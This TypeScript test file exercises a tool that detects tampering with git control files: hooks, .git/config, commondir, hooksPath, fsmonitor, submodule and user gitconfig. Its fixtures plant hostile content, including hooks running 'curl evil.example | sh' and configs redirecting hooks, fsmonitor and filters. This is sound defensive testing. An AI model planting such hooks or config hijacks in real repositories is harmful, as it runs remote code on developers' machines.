import { chmodSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { allowMatcher, changedSince, controlChangeHint, differsFromBaseline } from '../../src/runtime/scope-baseline.js';
import { changes, commitAll, git, recordBaseline, repo, tempDir, write } from './scope-fixture.js';

const ALLOW = ['src/**'];

describe('git control files', () => {
  it('reports a planted hook and core.hooksPath set in .git/config, with the lines to take out', async () => {
    const root = repo();
    const b = await recordBaseline(root, { allow: ALLOW });
    write(root, '.git/hooks/pre-commit', '#!/bin/sh\ncurl evil.example | sh\n');
    chmodSync(join(root, '.git/hooks/pre-commit'), 0o755);
    git(root, 'config', 'core.hooksPath', '/tmp/elsewhere');
    const found = await changedSince(root, b, { allow: ALLOW });
    expect(found.map((c) => `${c.change} ${c.path} ${c.undo}`)).toEqual(['modified .git/config rewrite', 'created .git/hooks/pre-commit delete']);
    const hint = controlChangeHint(b, found[0]!);
    expect(hint).toContain('Lines added since the start (take them out):');
    expect(hint).toContain('hooksPath = /tmp/elsewhere');
    expect(controlChangeHint(b, found[1]!)).toBeNull();
  });

  it('reports a commondir file planted in the git folder: it would move where git reads its config and hooks from', async () => {
    const root = repo();
    const b = await recordBaseline(root, { allow: ALLOW });
    write(root, 'src/fake/config', '[core]\n\thooksPath = /tmp/evil\n');
    write(root, '.git/commondir', '../src/fake\n');
    const found = await changedSince(root, b, { allow: ALLOW });
    expect(found.map((c) => `${c.change} ${c.path}`)).toContain('created .git/commondir');
  });

  it('shows the lines to put back when a control file lost some, and its whole text when it was deleted', async () => {
    const root = repo();
    git(root, 'config', 'user.name', 'Keeper');
    const b = await recordBaseline(root, { allow: ALLOW });
    const config = join(root, '.git/config');
    const before = readFileSync(config, 'utf8');
    writeFileSync(config, before.replace(/\[user\]\n\tname = Keeper\n/, ''));
    const [edited] = await changedSince(root, b, { allow: ALLOW });
    expect(controlChangeHint(b, edited!)).toMatch(/Lines it held at the start \(put them back\):\n {4}\[user\]\n {4}\tname = Keeper/);
    unlinkSync(config);
    const [deleted] = await changedSince(root, b, { allow: ALLOW });
    expect(deleted).toEqual({ path: '.git/config', change: 'deleted', undo: 'rewrite' });
    expect(controlChangeHint(b, deleted!)).toContain('\tname = Keeper');
    expect(controlChangeHint(b, { path: 'README.md', change: 'modified', undo: 'checkout' })).toBeNull();
  });

  it('admits a control file only through a pattern that names .git/, and never a path outside the worktree', () => {
    expect(allowMatcher(['**'])('.git/hooks/pre-commit')).toBe(false);
    expect(allowMatcher(['**'])('src/a.ts')).toBe(true);
    expect(allowMatcher(['.git/hooks/**'])('.git/hooks/pre-commit')).toBe(true);
    expect(allowMatcher(['./.git/hooks/'])('.git/hooks/pre-commit')).toBe(true);
    expect(allowMatcher(['.git/hooks/**'])('.git/config')).toBe(false);
    expect(allowMatcher(['**', '../**'])('../.git/config')).toBe(false);
  });

  it('reports a submodule config or hook changed, but not commits made inside the submodule', async () => {
    const lib = repo({ 'lib.ts': 'l\n' });
    const root = repo();
    git(root, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'src/lib');
    commitAll(root, 'add submodule');
    const b = await recordBaseline(root, { allow: ALLOW });
    write(root, 'src/lib/lib.ts', 'l2\n');
    commitAll(join(root, 'src/lib'), 'inside the submodule');
    const allowed = allowMatcher(ALLOW);
    expect((await changedSince(root, b, { allow: ALLOW })).filter((c) => !allowed(c.path))).toEqual([]);
    git(join(root, 'src/lib'), 'config', 'core.fsmonitor', '/tmp/monitor.sh');
    write(root, '.git/modules/src/lib/hooks/post-checkout', '#!/bin/sh\n');
    expect((await changedSince(root, b, { allow: ALLOW })).filter((c) => !allowed(c.path)).map((c) => `${c.change} ${c.path}`)).toEqual([
      'modified .git/modules/src/lib/config',
      'created .git/modules/src/lib/hooks/post-checkout',
    ]);
  });

  it('names control files of a linked worktree by their path from it, which no pattern admits', async () => {
    const main = repo();
    const linked = join(tempDir(), 'linked');
    git(main, 'worktree', 'add', '-q', linked);
    const b = await recordBaseline(linked, { allow: ['**'] });
    git(linked, 'config', 'core.hooksPath', '/tmp/elsewhere');
    write(main, '.git/hooks/pre-push', '#!/bin/sh\n');
    const found = await changedSince(linked, b, { allow: ['**'] });
    expect(found.map((c) => c.path)).toEqual([relative(linked, join(main, '.git/config')), relative(linked, join(main, '.git/hooks/pre-push'))]);
    expect(found[0]!.path).toMatch(/^\.\.\/\.\.\/gh-scope-[^/]+\/\.git\/config$/);
    expect(found.every((c) => !allowMatcher(['**'])(c.path))).toBe(true);
  });

  it('checks a worktree that is a subfolder of its repository with the rules above it, and its control files by ..', async () => {
    const root = repo({ '.gitignore': '*.gen\n', 'pkg/app/src/a.ts': 'a\n', 'pkg/other.ts': 'o\n', 'top.txt': 't\n' });
    const wt = join(root, 'pkg/app');
    const b = await recordBaseline(wt, { allow: ALLOW });
    write(root, 'pkg/app/src/a.ts', 'a2\n');
    write(root, 'pkg/app/new.ts', 'n\n');
    write(root, 'pkg/app/out.gen', 'ignored by the top-level rules\n');
    write(root, 'pkg/other.ts', 'o2\n');
    write(root, '.gitignore', '*.gen\nnew.ts\n');
    git(root, 'config', 'core.hooksPath', '/tmp/elsewhere');
    expect(await changes(wt, b)).toEqual(['modified ../../.git/config rewrite', 'created new.ts delete', 'modified src/a.ts rewrite']);
  });

  it('checks the folder core.hooksPath named at baseline as control files, even where ignore rules hide it', async () => {
    const root = repo({ '.husky/pre-commit': 'npm test\n', '.husky/_/.gitignore': '*\n', 'README.md': 'r\n' });
    write(root, '.husky/_/h', '#!/bin/sh\n. "$(dirname "$0")/../$(basename "$0")"\n');
    git(root, 'config', 'core.hooksPath', '.husky/_');
    const elsewhere = join(tempDir(), 'hooks');
    write(elsewhere, 'pre-push', '#!/bin/sh\n');
    const b = await recordBaseline(root, { allow: ALLOW });
    expect(await changes(root, b)).toEqual([]);
    write(root, '.husky/_/h', '#!/bin/sh\ncurl evil.example | sh\n');
    write(root, '.husky/_/post-checkout', '#!/bin/sh\n');
    expect(await changes(root, b)).toEqual(['modified .husky/_/h rewrite', 'created .husky/_/post-checkout delete']);
    expect([differsFromBaseline(root, b, join(root, '.husky/_/post-checkout')), differsFromBaseline(root, b, join(root, '.husky/_/.gitignore'))]).toEqual([true, false]);
    const other = repo();
    git(other, 'config', 'core.hooksPath', elsewhere);
    const b2 = await recordBaseline(other, { allow: ALLOW });
    write(elsewhere, 'pre-push', '#!/bin/sh\ncurl evil.example | sh\n');
    expect(await changes(other, b2)).toEqual([`modified ${relative(other, join(elsewhere, 'pre-push'))} rewrite`]);
  });

  it('reports a .git file rewritten to point git at another repository', async () => {
    const main = repo();
    const linked = join(tempDir(), 'linked');
    git(main, 'worktree', 'add', '-q', linked);
    const b = await recordBaseline(linked, { allow: ['**'] });
    const evil = repo();
    writeFileSync(join(linked, '.git'), `gitdir: ${join(evil, '.git')}\n`);
    expect(await changes(linked, b)).toEqual(['modified .git rewrite']);
  });
});

describe('watched paths outside the worktree (the user git config)', () => {
  it('reports a file changed, created or removed under a watched path, with the lines added, in git and plain folders alike', async () => {
    for (const root of [repo(), tempDir()]) {
      const home = tempDir();
      const gitconfig = join(home, '.gitconfig');
      writeFileSync(gitconfig, '[user]\n\tname = me\n');
      write(home, '.config/git/ignore', '*.log\n');
      const b = await recordBaseline(root, { allow: ALLOW, watch: [gitconfig, join(home, '.config/git'), join(home, '.config/gatehouse')] });
      expect(await changes(root, b, { allow: ALLOW })).toEqual([]);
      writeFileSync(gitconfig, '[user]\n\tname = me\n[core]\n\tfsmonitor = ./x\n');
      write(home, '.config/git/attributes', '* filter=evil\n');
      unlinkSync(join(home, '.config/git/ignore'));
      write(home, '.config/gatehouse/hooks.json', '{}');
      const rel = (p: string): string => relative(root, join(home, p));
      const found = await changedSince(root, b, { allow: ALLOW });
      expect(found.map((c) => `${c.change} ${c.path}`).sort()).toEqual(
        [`created ${rel('.config/gatehouse/hooks.json')}`, `created ${rel('.config/git/attributes')}`, `deleted ${rel('.config/git/ignore')}`, `modified ${rel('.gitconfig')}`].sort(),
      );
      // Never admitted by an allowlist, however wide.
      expect(found.some((c) => allowMatcher(['**'])(c.path))).toBe(false);
      expect(
        controlChangeHint(
          b,
          found.find((c) => c.change === 'modified')!,
        ),
      ).toContain('fsmonitor = ./x');
      expect(differsFromBaseline(root, b, gitconfig)).toBe(true);
    }
  });
});
